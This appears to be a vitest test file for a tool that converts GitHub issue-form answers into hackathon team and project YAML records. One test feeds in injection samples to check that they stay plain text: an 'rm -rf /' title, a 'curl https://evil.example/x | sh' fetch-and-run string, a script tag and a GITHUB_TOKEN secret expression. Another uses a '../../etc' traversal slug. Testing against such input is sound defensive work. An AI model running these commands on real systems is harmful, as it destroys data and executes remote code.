import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { buildRecord } from "../../../generator/github/intake/build-record.ts";
import { MAX_BODY, parseFormBody } from "../../../generator/github/intake/form-body.ts";
import { eventChoices } from "../../../generator/load/forms/form-files.ts";
import { issueForms, type FormKind } from "../../../generator/load/forms/issue-forms.ts";
import { check } from "../../../generator/pipeline.ts";
import { parse } from "yaml";
import { FIXTURES, fixtureRoot, EXAMPLE } from "../../helpers/fixture-root.ts";

const forms = issueForms(eventChoices(parse(await readFile(join(EXAMPLE, "records/event.yaml"), "utf8"))));
const form = (kind: FormKind) => forms.find((f) => f.kind === kind)!;
const body = async (name: string) => readFile(join(FIXTURES, "intake", name), "utf8");
const none = () => undefined;

describe("an issue form's body", () => {
  it("parses into answers by field id, _No response_ as empty", async () => {
    const { values, problems } = parseFormBody(await body("register-team.md"), form("register-team"));
    expect(problems).toEqual([]);
    expect(values).toEqual({
      name: "Gripper Gang",
      yourName: "Lena Fischer",
      yourSkills: "CAD, Python",
      members: "Tomás Ortega (@tortega): Python, Reinforcement learning\nSam Okafor",
      lookingForMembers: "Yes",
      skillsWanted: "Computer vision",
      about: "We build a soft gripper for fruit.\nCome if you like cameras.",
      contact: "",
    });
  });

  it("becomes a record that validates, with the issue's author as its first member", async () => {
    const { values } = parseFormBody(await body("register-team.md"), form("register-team"));
    const built = buildRecord(form("register-team"), values, "lenafischer", none);
    expect(built).toEqual({
      ok: true,
      file: "records/teams/gripper-gang.yaml",
      slug: "gripper-gang",
      text: `# yaml-language-server: $schema=../schemas/team.schema.json
name: Gripper Gang
lookingForMembers: true
skillsWanted:
  - Computer vision
about: We build a soft gripper for fruit. Come if you like cameras.
members:
  - name: Lena Fischer
    github: lenafischer
    skills:
      - CAD
      - Python
  - name: Tomás Ortega
    github: tortega
    skills:
      - Python
      - Reinforcement learning
  - name: Sam Okafor
    github: null
    skills: []
`,
    });
    const root = await fixtureRoot();
    if (!built.ok) throw new Error("not built");
    await writeFile(join(root, built.file), built.text);
    expect((await check({ root })).diagnostics).toEqual([]);
  });

  it("keeps hostile answers as text: quotes, shell, expressions and markup stay data", async () => {
    const { values, problems } = parseFormBody(
      await body("submit-project-hostile.md"),
      form("submit-project"),
    );
    expect(problems).toEqual([]);
    const built = buildRecord(form("submit-project"), values, "ada-a", none);
    if (!built.ok) throw new Error(built.problems.join("; "));
    expect(built.file).toBe("records/projects/rm-rf.yaml");
    const root = await fixtureRoot();
    await writeFile(join(root, built.file), built.text);
    const result = await check({ root });
    // The fixture event lists one robot: TurtleBot 4 is a warning, as for any record.
    expect(result.diagnostics.map((d) => d.severity)).toEqual(["warning"]);
    const record = result.loaded.projects.find((p) => p.slug === "rm-rf")!.data as Record<string, unknown>;
    expect(record).toMatchObject({
      title: '"; rm -rf / #',
      tagline: "$(curl https://evil.example/x | sh) `whoami` <script>alert(1)</script>",
      track: "hardware",
      robots: ["SO-100 arm", "TurtleBot 4"],
      description: "Line one ${{ secrets.GITHUB_TOKEN }}\n",
      team: [{ name: "Ada", github: "ada-a" }],
    });
    expect(record).not.toHaveProperty("ignored");
  });

  it("reads Built with as comma-separated tags, Demo link as one link and the demo's needs as choices, and the record validates", async () => {
    const { values, problems } = parseFormBody(
      await body("submit-project-built-with.md"),
      form("submit-project"),
    );
    expect(problems).toEqual([]);
    const built = buildRecord(form("submit-project"), values, "ada-a", none);
    if (!built.ok) throw new Error(built.problems.join("; "));
    expect(built.text).toContain(
      "builtWith:\n  - ROS 2\n  - PyTorch\n  - MuJoCo\ndescription: |\n  Routes cables.\n" +
        "video: https://youtu.be/aqz-KE-bpKQ\ndemo: https://tidy-arm.example.org/try\nneeds:\n  - power\n  - large\n",
    );
    const root = await fixtureRoot();
    await writeFile(join(root, built.file), built.text);
    const result = await check({ root });
    expect(result.diagnostics).toEqual([]);
    const record = result.loaded.projects.find((p) => p.slug === "tidy-arm")!.data;
    expect(record).toMatchObject({
      builtWith: ["ROS 2", "PyTorch", "MuJoCo"],
      demo: "https://tidy-arm.example.org/try",
      needs: ["power", "large"],
    });
    // An update replaces the tags, and "none" clears both.
    const update = form("update-project");
    const cleared = buildRecord(
      update,
      { slug: "tidy-arm", builtWith: "none", demo: "none" },
      "ada-a",
      () => built.text,
    );
    expect(cleared).toMatchObject({ ok: true });
    expect(cleared.ok && cleared.text).toContain("builtWith: []\n");
    expect(cleared.ok && cleared.text).toContain("demo: null\n");
  });

  it("names the required answers that are missing, and refuses an over-long body whole", () => {
    const empty = ["Team name", "Your name", "Looking for members"]
      .map((l) => `### ${l}\n\n_No response_`)
      .join("\n\n");
    expect(parseFormBody(empty, form("register-team")).problems).toEqual([
      '"Team name" is required',
      '"Looking for members" is required',
      '"Your name" is required',
    ]);
    const long = `### Team name\n\n${"x".repeat(MAX_BODY)}`;
    expect(parseFormBody(long, form("register-team")).problems).toEqual([
      "the issue is longer than 65536 characters",
    ]);
  });

  it("gives an over-long field to the validator, which names it", async () => {
    const values = {
      ...parseFormBody(await body("register-team.md"), form("register-team")).values,
      about: "word ".repeat(200),
    };
    const built = buildRecord(form("register-team"), values, "lenafischer", none);
    if (!built.ok) throw new Error("not built");
    const root = await fixtureRoot();
    await writeFile(join(root, built.file), built.text);
    const messages = (await check({ root })).diagnostics.map(
      (d) => `${d.file}:${d.line} ${d.rule}: ${d.message}`,
    );
    expect(messages).toEqual([
      "records/teams/gripper-gang.yaml:6 invalid-value: about must be at most 600 characters (found 1000 characters)",
    ]);
  });

  it("changes only the answered fields of an existing record, keeping its comments", async () => {
    const current = `# yaml-language-server: $schema=../schemas/team.schema.json
name: Alpha Team # our name
lookingForMembers: false
members:
  - name: Ada
    github: ada-a
`;
    const built = buildRecord(
      form("update-team"),
      { slug: "alpha-team", lookingForMembers: "Yes", skillsWanted: "SLAM, C++", about: "", members: "" },
      "ada-a",
      (file) => (file === "records/teams/alpha-team.yaml" ? current : undefined),
    );
    expect(built).toMatchObject({
      ok: true,
      text: `# yaml-language-server: $schema=../schemas/team.schema.json
name: Alpha Team # our name
lookingForMembers: true
members:
  - name: Ada
    github: ada-a
skillsWanted:
  - SLAM
  - C++
`,
    });
    expect(buildRecord(form("update-team"), { slug: "nobody" }, "x", () => undefined)).toEqual({
      ok: false,
      problems: ["there is no team with the slug nobody (no records/teams/nobody.yaml)"],
    });
    expect(buildRecord(form("update-team"), { slug: "../../etc" }, "x", () => "")).toMatchObject({
      ok: false,
    });
  });
});
